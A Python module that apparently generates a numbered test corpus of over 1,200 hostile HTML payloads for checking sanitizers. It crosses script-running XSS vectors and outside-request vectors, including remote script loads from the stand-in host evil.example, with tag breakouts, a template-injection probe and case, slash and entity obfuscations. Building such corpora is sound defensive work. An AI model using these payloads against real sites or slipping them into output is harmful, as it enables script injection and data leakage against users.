"""Hostile HTML by the hundred: everything that runs a script or asks an outside server, broken out of everywhere.

Each case calls `hit(n)` or asks https://evil.example/n, so that whatever works says which one it was.
"""

from __future__ import annotations

import re
from itertools import product

RUNS = (
    "<script>hit({n})</script>",
    "<script src=https://evil.example/{n}.js></script>",
    "<img src=x onerror=hit({n})>",
    "<svg onload=hit({n})>",
    "<svg><script>hit({n})</script></svg>",
    "<svg><animate onbegin=hit({n}) attributeName=x dur=1s>",
    "<math><mtext><script>hit({n})</script></mtext></math>",
    "<body onload=hit({n})>",
    "<iframe srcdoc='<script>parent.hit({n})</script>'></iframe>",
    "<iframe src=javascript:parent.hit({n})></iframe>",
    "<object data=javascript:hit({n})></object>",
    "<embed src=javascript:hit({n})>",
    "<details open ontoggle=hit({n})>",
    "<input autofocus onfocus=hit({n})>",
    "<video><source onerror=hit({n})></video>",
    "<audio src=x onerror=hit({n})>",
    "<a href=javascript:hit({n}) autofocus onfocus=hit({n}) tabindex=1>x</a>",
    "<form action=javascript:hit({n})><button autofocus onfocus=hit({n})>x</button></form>",
    "<style onload=hit({n})></style>",
    "<marquee onstart=hit({n})>x</marquee>",
    "<template><script>hit({n})</script></template><img src=x onerror=hit({n})>",
    "<noscript><p title='</noscript><img src=x onerror=hit({n})>'>",
)
ASKS = (
    "<img src=https://evil.example/{n}>",
    "<img srcset='https://evil.example/{n} 1x'>",
    "<link rel=stylesheet href=https://evil.example/{n}.css>",
    "<link rel=preload as=image href=https://evil.example/{n}>",
    "<style>@import 'https://evil.example/{n}.css';</style>",
    "<p style='background:url(https://evil.example/{n})'>x</p>",
    "<iframe src=https://evil.example/{n}></iframe>",
    "<object data=https://evil.example/{n}></object>",
    "<video poster=https://evil.example/{n}></video>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/{n}'>",
    "<base href=https://evil.example/{n}/><img src=y>",
    "<svg><image href=https://evil.example/{n} /></svg>",
    "<svg><use href=https://evil.example/{n}#a /></svg>",
    "<input type=image src=https://evil.example/{n}>",
)
# What a place may be left by, before the case begins.
BREAKS = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "</p>",
    "-->",
    "]]>",
    "</text></svg>",
    "{{{{7*7}}}}",
)


def plainly(text: str) -> str:
    """As it stands."""
    return text


def loudly(text: str) -> str:
    """Tags in mixed letters: HTML does not care."""
    return re.sub(r"<\w+", lambda tag: tag[0].upper(), text)


def slashed(text: str) -> str:
    """A slash where a blank was: still a tag."""
    return text.replace(" ", "/", 1)


def escaped(text: str) -> str:
    """As entities: whoever unescapes once too often runs it."""
    return text.replace("<", "&lt;").replace(">", "&gt;")


def cases() -> list[str]:
    """Every case once, numbered; more than 1,200."""
    found = []
    for attack, before, turn in product((*RUNS, *ASKS), BREAKS, (plainly, slashed, escaped, loudly)):
        found.append(before.format() + turn(attack.format(n=len(found))))
    return found
